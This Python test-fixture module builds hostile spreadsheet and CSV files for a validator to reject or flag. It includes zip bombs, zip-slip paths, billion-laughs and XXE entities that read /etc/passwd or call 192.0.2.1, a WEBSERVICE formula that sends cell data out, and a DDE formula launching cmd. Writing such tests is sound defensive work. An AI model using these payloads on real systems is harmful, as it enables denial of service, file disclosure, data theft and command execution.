"""Files that harm a careless reader, each made by code, with the one finding that must come of it.

`CASES` are refused with the code given, `NOTED` are read and the code is among the notes. Numbers after
the comment sign are those of the list of hostile files that the limits were drawn up against.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.hostile import biff
from tests.hostile.workbooks import DECLARED, LINK, MAIN, ONE_CELL, RELS, members, sheet_xml, xlsx
from tests.hostile.zips import STORED, Member, deflated, zeros, zip_bytes

MIB = 1024 * 1024
WORKBOOK = "xl/workbook.xml"
SHEET = "xl/worksheets/sheet1.xml"


@dataclass(frozen=True)
class Case:
    """One file: what it is called, what must be found, and its bytes, made when asked for."""

    id: str
    code: str
    make: Callable[[], bytes] = field(repr=False)
    ending: str = ".xlsx"


def with_sheet(xml: bytes) -> Callable[[], bytes]:
    return lambda: xlsx(replaced={SHEET: xml})


def with_rows(rows: str, *, before: str = "", after: str = "") -> Callable[[], bytes]:
    return lambda: xlsx(rows, before=before, after=after)


def with_part(name: str, data: bytes) -> Callable[[], bytes]:
    return lambda: xlsx(replaced={name: data})


def with_member(*extra: Member) -> Callable[[], bytes]:
    return lambda: xlsx(extra=extra)


def bomb(total: int, name: str = "xl/media/image1.bin") -> Callable[[], bytes]:
    """A part of `total` equal bytes, a thousandth of that in the file."""

    def make() -> bytes:
        piece = b"<a/>" * (MIB // 4)
        crc = 0
        for _ in range(total // MIB):
            crc = zlib.crc32(piece, crc)
        packed = deflated(zeros(total, piece))
        return xlsx(extra=[Member(name, packed=packed, stated_size=total, stated_crc=crc)])

    return make


def understated() -> bytes:
    """Claims a hundred bytes and their checksum and holds 90 MiB: what a check of the headers passes."""
    packed = deflated(zeros(90 * MIB, b" " * MIB))
    member = Member("xl/media/a.bin", packed=packed, stated_size=100, stated_crc=zlib.crc32(b" " * 100))
    return xlsx(extra=[member])


def truncated_view() -> bytes:
    """A sheet whose stated size shows one cell and whose real data goes on to the far corner."""
    shown = sheet_xml(ONE_CELL)
    real = shown.replace(b"</sheetData>", b'<row r="9"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    packed = deflated([real])
    lying = Member(SHEET, packed=packed, stated_size=len(shown), stated_crc=zlib.crc32(real[: len(shown)]))
    others = [member for member in members({"收入": shown}) if member.name != SHEET]
    return zip_bytes([*others, lying])


def overlapping() -> bytes:
    """Two names for the data of one part."""
    plain = members({"收入": sheet_xml(ONE_CELL)})
    twin = Member("xl/twin.xml", data=plain[0].data, at=0)
    return zip_bytes([*plain, twin])


def quoted() -> bytes:
    """One part's data lies inside another's, stored, as in the better zip bombs."""
    inner = Member("xl/b.bin", data=b"b" * 100, method=STORED)
    hidden = zip_bytes([inner])[: 30 + len(inner.name) + 100]
    outer = Member("a.bin", data=hidden + b"tail", method=STORED)
    plain = members({"收入": sheet_xml(ONE_CELL)})
    return zip_bytes(
        [outer, Member(inner.name, data=inner.data, method=STORED, at=0, local_name="x"), *plain]
    )


def dtd(body: str, *, root: str = "workbook") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root} [{body}]>\n'
        f'<{root} xmlns="{MAIN}"><sheets/></{root}>'
    ).encode()


LAUGHS = "".join(f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10 if n else "ha"}">' for n in range(10))
QUADRATIC = f'<!ENTITY a "{"a" * 50_000}">'


def wide(count: int, cells: str) -> str:
    return "".join(f'<row r="{number}">{cells.format(row=number)}</row>' for number in range(1, count + 1))


def cell(name: str) -> str:
    return f'<c r="{name}"><v>1</v></c>'


FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576">{}</row>'
MERGED = '<mergeCells count="1"><mergeCell ref="{}"/></mergeCells>'


def random_bytes(start: bytes = b"") -> Callable[[], bytes]:
    return lambda: start + random.Random(7).randbytes(5000)


def many_sheets() -> bytes:
    """Each sheet is allowed, all together are not."""
    rows = f'<row r="1">{cell("A1")}</row><row r="100000">{cell("P100000")}</row>'
    return zip_bytes(members({f"表{number}": sheet_xml(rows) for number in range(4)}))


def encrypted_office() -> bytes:
    return biff.compound({"EncryptionInfo": b"\4\0\4\0" + bytes(200), "EncryptedPackage": bytes(9000)})


CONTAINERS = (
    Case("zip-bomb", "E-SIZE", bomb(90 * MIB)),  # 2
    Case("zip-bomb-in-ratio", "E-SIZE", bomb(12 * MIB)),
    Case("sizes-understated", "E-SIZE", understated),  # 5
    Case("sizes-understated-to-hide-a-cell", "E-OVERLAP", truncated_view),
    Case("entries-overlap", "E-OVERLAP", overlapping),  # 4
    Case("entries-inside-entries", "E-OVERLAP", quoted),
    Case(
        "60000-entries",
        "E-ENTRIES",
        lambda: xlsx(extra=[Member(f"a/{n}", method=STORED) for n in range(60_000)]),
    ),  # 6
    Case(
        "2100-entries",
        "E-ENTRIES",
        lambda: xlsx(extra=[Member(f"a/{n}", method=STORED) for n in range(2_100)]),
    ),
    Case("two-zips-in-one-file", "E-OVERLAP", lambda: zip_bytes(members({"收入": b"x"})) + xlsx()),
    Case("zip-slip", "E-PATH", with_member(Member("../../../../evil"))),  # 7
    Case("zip-slip-backslashes", "E-PATH", with_member(Member("..\\..\\evil"))),
    Case("absolute-name", "E-PATH", with_member(Member("/etc/evil"))),  # 8
    Case("drive-letter", "E-PATH", with_member(Member("C:/evil"))),
    Case("symbolic-link", "E-PATH", with_member(Member("xl/link", b"/etc/passwd", mode=0o120777))),  # 9
    Case("nul-in-name", "E-PATH", with_member(Member("xl/a\0.xml"))),
    Case("duplicate-part", "E-DUP", with_member(Member(SHEET, sheet_xml(ONE_CELL)))),  # 10
    Case("duplicate-but-for-case", "E-DUP", with_member(Member(SHEET.upper(), sheet_xml(ONE_CELL)))),
    Case("encrypted-member", "E-ENCRYPTED", with_member(Member("xl/a.xml", b"<a/>", flags=1))),  # 11
    Case("unknown-compression", "E-TRUNCATED", with_member(Member("xl/a.bin", b"x", method=12))),
    Case("bad-checksum", "E-TRUNCATED", with_member(Member("xl/a.bin", b"x" * 99, stated_crc=1))),
)

MARKUP = (
    Case("billion-laughs", "E-DTD", with_part(WORKBOOK, dtd(LAUGHS))),  # 12
    Case("quadratic-blow-up", "E-DTD", with_sheet(dtd(QUADRATIC, root="worksheet"))),  # 13
    Case("xxe-file", "E-DTD", with_part(WORKBOOK, dtd('<!ENTITY x SYSTEM "file:///etc/passwd">'))),  # 14
    Case("xxe-http", "E-DTD", with_sheet(dtd('<!ENTITY x SYSTEM "http://192.0.2.1/x">'))),  # 15
    Case(
        "external-dtd",
        "E-DTD",
        with_part(
            "xl/_rels/workbook.xml.rels",
            f'<!DOCTYPE r SYSTEM "http://192.0.2.1/a.dtd"><Relationships xmlns="{RELS}"/>'.encode(),
        ),
    ),  # 16
    Case(
        "parameter-entity",
        "E-DTD",
        with_part("xl/styles.xml", dtd('<!ENTITY % p SYSTEM "http://192.0.2.1/p">')),
    ),  # 17
    Case("doctype-in-small-letters", "E-DTD", with_part("xl/styles.xml", b"<!doctype a><a/>")),
    Case("deep-nesting", "E-DEPTH", with_part("xl/styles.xml", b"<a>" * 100_000 + b"</a>" * 100_000)),  # 18
    Case(
        "utf-16-sheet", "E-ENCODING", with_sheet(sheet_xml(ONE_CELL, declared="").decode().encode("utf-16"))
    ),  # 19
    Case("utf-16-without-bom", "E-ENCODING", with_sheet(sheet_xml(ONE_CELL).decode().encode("utf-16-le"))),
    Case(
        "utf-7-declared",
        "E-ENCODING",
        with_sheet(sheet_xml(ONE_CELL, declared='<?xml version="1.0" encoding="UTF-7"?>')),
    ),
    Case(
        "huge-attribute",
        "E-SIZE",
        with_sheet(sheet_xml(f'<row r="1" spans="{"x" * 3 * MIB}"><c r="A1"><v>1</v></c></row>')),
    ),  # 20
    Case("huge-text", "E-SIZE", with_rows(f'<row r="1"><c r="A1" t="str"><v>{"x" * 3 * MIB}</v></c></row>')),
    Case("unclosed-sheet", "E-NOT-OOXML", with_sheet(sheet_xml(ONE_CELL)[:-20])),
)

CELLS = (
    Case("far-cell", "E-CELLS", with_rows(FAR.format(cell("XFD1048576")))),  # 21
    Case("far-cell-alone", "E-CELLS", with_rows(f'<row r="1048576">{cell("XFD1048576")}</row>')),
    Case(
        "two-corners",
        "E-CELLS",
        with_rows(f'<row r="1">{cell("XFD1")}</row><row r="1048576">{cell("A1048576")}</row>'),
    ),  # 22
    Case("hundred-columns-apart", "E-CELLS", with_rows(FAR.format(cell("CV1048576")))),
    Case("cells-out-of-order", "E-CELLS", with_rows(f"<row r='9'>{cell('XFD1048576')}{cell('A1')}</row>")),
    Case(
        "far-cell-address-last", "E-CELLS", with_rows('<row r="1"><c t="n" r="XFD1048576"><v>1</v></c></row>')
    ),
    Case("far-cell-single-quotes", "E-CELLS", with_rows("<row r='1'><c r='XFD1048576'><v>1</v></c></row>")),
    Case(
        "far-cell-in-references", "E-CELLS", with_rows('<row r="1"><c r="&#88;FD1048576"><v>1</v></c></row>')
    ),
    Case("far-cell-spaced", "E-CELLS", with_rows('<row r="1"><c\n r = "XFD1048576"><v>1</v></c></row>')),
    Case(
        "far-cell-prefixed",
        "E-CELLS",
        with_sheet(
            f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData><x:row r="1"><x:c r="XFD1048576"><x:v>1</x:v></x:c>'
            "</x:row></x:sheetData></x:worksheet>".encode()
        ),
    ),
    Case(
        "far-row-without-addresses",
        "E-CELLS",
        with_rows('<row r="1048576"><c><v>1</v></c><c><v>2</v></c><c><v>3</v></c></row>'),
    ),
    Case(
        "two-addresses-in-one-cell",
        "E-NOT-OOXML",
        with_rows('<row r="1"><c r="A1" r="XFD1048576"><v>1</v></c></row>'),
    ),
    Case(
        "two-addresses-in-a-sheet-too-large-to-walk",
        "E-NOT-OOXML",
        with_rows(
            wide(40_000, "".join(f'<c r="{letter}{{row}}"><v>1{{row}}</v></c>' for letter in "ABCDE"))
            + '<row r="50000"><c r="A50000" r="XFD1048576"><v>1</v></c></row>'
        ),
    ),
    Case("address-outside-a-sheet", "E-CELLS", with_rows('<row r="1"><c r="ZZZ9999999"><v>1</v></c></row>')),
    Case(
        "far-cell-in-a-part-of-another-name",
        "E-CELLS",
        lambda: xlsx(
            replaced={
                "xl/_rels/workbook.xml.rels": (
                    f'{DECLARED}<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
                    f'Type="{LINK}/worksheet" Target="media/picture.png"/></Relationships>'
                ).encode(),
                "xl/media/picture.png": sheet_xml(FAR.format(cell("XFD1048576"))),
            }
        ),
    ),
    Case("whole-sheet-merge", "E-CELLS", with_rows(ONE_CELL, after=MERGED.format("A1:XFD1048576"))),  # 23
    Case(
        "many-large-merges",
        "E-CELLS",
        with_rows(ONE_CELL, after="".join(MERGED.format(f"A{n}:CV{n + 900}") for n in range(1, 30_000, 901))),
    ),
    Case(
        "three-million-shared-strings",
        "E-CELLS",
        with_member(Member("xl/sharedStrings.xml", b"<sst>" + b"<si/>" * 2_100_000 + b"</sst>", STORED)),
    ),  # 25
    Case(
        "announced-strings",
        "E-CELLS",
        with_part("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}" uniqueCount="4294967296"/>'.encode()),
    ),
    Case(
        "announced-strings-in-a-large-part-in-other-words",
        "E-CELLS",
        with_member(
            Member(
                "xl/sharedStrings.xml",
                f"<!--{'><' * 3_000_000}--><sst xmlns='{MAIN}' uniqueCount = '&#52;294967296'/>".encode(),
                STORED,
            )
        ),
    ),
    Case(
        "a-million-names",
        "E-CELLS",
        lambda: xlsx(replaced={"xl/styles.xml": b"<s>" + b'<xf numFmtId="0"/>' * 400_000 + b"</s>"}),
    ),  # 26
    Case("many-sheets-together", "E-CELLS", many_sheets),
)

FORMULAS = (
    Case("formula-without-value", "E-FORMULA", with_rows('<row r="1"><c r="A1"><f>1+1</f></c></row>')),
    Case("formula-with-empty-value", "E-FORMULA", with_rows('<row r="1"><c r="A1"><f>1+1</f><v/></c></row>')),
    Case(
        "formula-out-of-habit",
        "E-FORMULA",
        with_rows('<row r="1"><c s="1" r="A1"><f>1+1</f><v></v></c></row>'),
    ),
)

KINDS = (
    Case("empty-file", "E-EMPTY", lambda: b""),  # 66
    Case("empty-workbook", "E-EMPTY", with_rows("")),
    Case("workbook-of-styles-only", "E-EMPTY", with_rows('<row r="1"><c r="A1" s="0"/></row>')),
    Case("empty-csv", "E-EMPTY", lambda: b"\n\n,,\n", ".csv"),
    Case("password", "E-ENCRYPTED", encrypted_office),
    Case(
        "password-of-xls", "E-ENCRYPTED", lambda: biff.xls(biff.number_cell(0, 0, 1), password=True), ".xls"
    ),
    Case("old-word-file", "E-TYPE", lambda: biff.compound({"WordDocument": bytes(5000)})),
    Case("pdf", "E-TYPE", lambda: b"%PDF-1.7\n" + bytes(3000)),
    Case("picture", "E-TYPE", lambda: b"\x89PNG\r\n\x1a\n" + bytes(3000), ".csv"),
    Case("web-page", "E-TYPE", lambda: "<html><table><tr><td>合计</td></tr></table></html>".encode(), ".xls"),
    Case("random-bytes", "E-TYPE", random_bytes()),
    Case("random-bytes-csv", "E-TYPE", random_bytes(), ".csv"),
    Case("other-zip", "E-TYPE", lambda: zip_bytes([Member("说明.txt", b"1")])),
    Case("empty-zip", "E-TYPE", lambda: zip_bytes([])),
    Case("zip-start-only", "E-TRUNCATED", random_bytes(b"PK\3\4")),
    Case("compound-start-only", "E-TRUNCATED", random_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), ".xls"),
    Case("truncated-in-the-middle", "E-TRUNCATED", lambda: xlsx()[:-400]),
    Case("truncated-xls", "E-TRUNCATED", lambda: biff.xls(biff.number_cell(0, 0, 1))[:1200], ".xls"),
    Case("no-workbook-part", "E-NOT-OOXML", with_part(WORKBOOK, b"<nothing/>")),
    Case("unknown-encoding", "E-ENCODING", lambda: "合计,1\n".encode() * 3 + b"\xff\xff,2\n", ".csv"),
    Case("csv-with-binary-inside", "E-TRUNCATED", lambda: b"a,b\n" * 3000 + b"a,\0\n", ".csv"),
    Case("csv-with-an-endless-quotation", "E-TRUNCATED", lambda: b'a,"b\n' + b"c,d\n" * 60_000, ".csv"),
    Case("csv-with-a-long-cell", "E-SIZE", lambda: b"a," + b"b" * 40_000, ".csv"),
    Case("csv-with-far-columns", "E-CELLS", lambda: b"," * 20_000 + b"1\n" + b"1\n" * 200, ".csv"),
)

CASES = (*CONTAINERS, *MARKUP, *CELLS, *FORMULAS, *KINDS)

NOTED = (
    Case("macros", "W-ACTIVE", with_member(Member("xl/vbaProject.bin", b"x")), ".xlsm"),  # 30
    Case("ole-object", "W-ACTIVE", with_member(Member("xl/embeddings/oleObject1.bin", b"x"))),  # 31
    Case("activex", "W-ACTIVE", with_member(Member("xl/activeX/activeX1.bin", b"x"))),  # 32
    Case(
        "external-workbook", "W-EXTERNAL", with_member(Member("xl/externalLinks/externalLink1.xml", b"<a/>"))
    ),  # 37
    Case("data-connection", "W-EXTERNAL", with_member(Member("xl/connections.xml", b"<a/>"))),
    Case(
        "picture-on-a-share",
        "W-EXTERNAL",
        with_member(
            Member(
                "xl/worksheets/_rels/sheet1.xml.rels",
                (
                    f'<Relationships xmlns="{RELS}"><Relationship Id="r1" TargetMode="External" '
                    f'Type="{LINK}/image" Target="file:///\\\\host\\share\\a.png"/></Relationships>'
                ).encode(),
            )
        ),
    ),  # 35
    Case(
        "webservice",
        "W-FORMULA",
        with_rows('<row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/?"&amp;B1)</f><v>1</v></c></row>'),
    ),  # 38
    Case(
        "dde", "W-FORMULA", with_rows('<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f><v>1</v></c></row>')
    ),  # 36
    Case("lying-dimension", "", with_rows(ONE_CELL, before='<dimension ref="A1:XFD1048576"/>')),  # 24
    Case("not-xlsx-by-name", "W-TYPE", xlsx, ".xls"),
    Case("text-by-another-name", "W-TYPE", lambda: "科目\t金额\n办公费\t1\n".encode("gbk"), ".xls"),
)
